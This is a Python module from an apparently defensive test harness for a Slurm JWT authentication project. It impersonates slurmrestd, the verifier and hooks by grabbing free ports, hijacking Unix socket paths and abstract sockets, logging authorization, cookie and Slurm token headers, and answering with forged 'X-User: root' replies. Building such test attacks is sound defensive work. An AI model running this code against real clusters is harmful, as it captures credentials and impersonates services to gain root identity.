# Copyright (c) 2026, hpc.slurm_jwt contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks that answer instead of slurmrestd, the verifier, a hook or a source of keys. See attacker.py."""

from __future__ import annotations

import contextlib
import os
import re
import selectors
import socket
import stat
from typing import Any

from attacker import Attack

V4, V6 = socket.AF_INET, socket.AF_INET6
ADDRESSES = ((V4, "127.0.0.1"), (V6, "::1"), (V4, "0.0.0.0"), (V6, "::"))
SECRET = re.compile(rb"^(x-slurm-user-token|(?:proxy-)?authorization|cookie): *\S", re.IGNORECASE | re.MULTILINE)
BODY = b'{"meta": {"said by": "mallory"}, "errors": [], "warnings": [], "statistics": {}, "pings": [], "keys": []}'
# Valid as an answer of slurmrestd, of the verifier ("X-User") and of a hook ("X-Remote-User").
ANSWER = (
    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-User: root\r\nX-Remote-User: root\r\nConnection: close\r\n"
    b"Content-Length: %d\r\n\r\n%b" % (len(BODY), BODY)
)


class Listener(Attack):
    """Listens on many addresses at once, and records requests."""

    pause = 0.0
    wait = 0.005

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.selector = selectors.DefaultSelector()

    def listen(self, server: socket.socket, where: str) -> None:
        server.listen(64)
        self.selector.register(server, selectors.EVENT_READ, (where, None))

    def serve(self) -> None:
        for key, _events in self.selector.select(self.wait):
            where, received = key.data
            if received is None:
                with contextlib.suppress(OSError):
                    client, _address = key.fileobj.accept()
                    client.setblocking(False)
                    self.selector.register(client, selectors.EVENT_READ, (where, bytearray()))
            else:
                self.receive(key.fileobj, where, received)

    def receive(self, client: Any, where: str, received: bytearray) -> None:
        try:
            part = client.recv(65536)
        except OSError:
            part = b""
        received += part
        if part and b"\r\n\r\n" not in received:
            return
        if received:
            secrets = [name.lower().decode() for name in SECRET.findall(bytes(received))]
            asked = bytes(received).split(b"\r\n")[0].decode("ascii", "replace")
            # The client accepts the answer.
            kind = "secret" if secrets else "decision"
            self.ledger.gained(self.name, kind, where, headers=sorted(secrets), asked=asked)
            self.ledger.inspect(self.name, where, bytes(received))
            with contextlib.suppress(OSError):
                client.send(ANSWER)
        self.selector.unregister(client)
        client.close()


class Ports(Listener):
    """Listens on every free port, also while its owner restarts."""

    name = "ports"

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.missing = [(family, address, port) for port in self.task.ports for family, address in ADDRESSES]
        self.turn = 0

    def step(self) -> None:
        self.turn += 1
        # Ports below 1024 should fail, and are tried less often.
        self.missing = [each for each in self.missing if (each[2] < 1024 and self.turn % 20) or not self.take(*each)]
        self.serve()

    def take(self, family: int, address: str, port: int) -> bool:
        self.ledger.tried(self.name)
        server = socket.socket(family, socket.SOCK_STREAM)
        try:
            server.setblocking(False)
            if family == socket.AF_INET6:
                server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            server.bind((address, port))
            self.listen(server, f"{address} port {port}")
            return True
        except OSError:
            server.close()
            return False


class Sockets(Listener):
    """Makes sockets and folders at paths where programs connect, and replaces existing ones."""

    name = "sockets"
    wait = 0.05

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.mine: set[str] = set()
        for path in self.task.sockets:
            self.abstract(path)

    def abstract(self, path: str) -> None:
        """The abstract socket of the same name."""
        server = socket.socket(socket.AF_UNIX)
        server.setblocking(False)
        server.bind("\0" + path)
        self.listen(server, f"abstract {path}")

    def step(self) -> None:
        for path in self.task.sockets:
            self.replace(path)
        self.serve()

    def replace(self, path: str) -> None:
        self.ledger.tried(self.name)
        folder = os.path.dirname(path)
        with contextlib.suppress(OSError):
            os.mkdir(folder)
            self.ledger.gained(self.name, "folder", folder)
        with contextlib.suppress(OSError):
            os.rename(folder, f"{folder}.gone")
            self.ledger.gained(self.name, "folder renamed", folder)
        if path in self.mine:
            return
        with contextlib.suppress(OSError):
            os.rename(path, f"{path}.gone")
            self.ledger.gained(self.name, "socket renamed", path)
        with contextlib.suppress(OSError):
            server = socket.socket(socket.AF_UNIX)
            server.setblocking(False)
            server.bind(path)
            self.listen(server, path)
            self.mine.add(path)
            self.ledger.gained(self.name, "socket", path)
        self.connect(path)

    def connect(self, path: str) -> None:
        """Connects to the verifier. slurmrestd itself accepts connections of all users."""
        if "verifier" not in path:
            return
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            if stat.S_ISSOCK(os.stat(path).st_mode):
                client.connect(path)
                self.ledger.gained(self.name, "connection", path)
